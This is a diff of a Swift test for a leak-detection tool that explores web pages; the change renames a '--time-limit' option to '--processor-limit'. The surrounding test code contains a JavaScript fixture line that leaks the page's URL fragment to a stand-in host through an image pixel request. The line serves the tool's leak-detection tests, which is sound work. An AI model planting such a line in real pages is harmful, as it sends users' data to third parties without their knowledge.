@@ -154,12 +154,12 @@ import Testing
       Self.leak.replacing(
         "new Image().src = 'https://ads.example/pixel?c=' + location.hash.slice(6)", with: "for (;;);"))
     let found = try Tool.run(
-      "explore", page, "--click", "#in", "--kinds", "user", "--runs", "500", "--jobs", "1", "--time-limit", "3")
+      "explore", page, "--click", "#in", "--kinds", "user", "--runs", "500", "--jobs", "1", "--processor-limit", "3")
     #expect(found.code == 1, "\(found.output)\(found.errors)")
     let order = try Self.order(in: found.output)
     #expect(order.hasSuffix("=again"))
     #expect(found.output.contains("\n  \(order), at a moment that is not known.\n"), "\(found.output)")
-    #expect(found.output.contains(" --time-limit 3 --order \(order)\n"))
+    #expect(found.output.contains(" --processor-limit 3 --order \(order)\n"))
   }
 
   @Test func `an interrupted search tells what it covered`() throws {
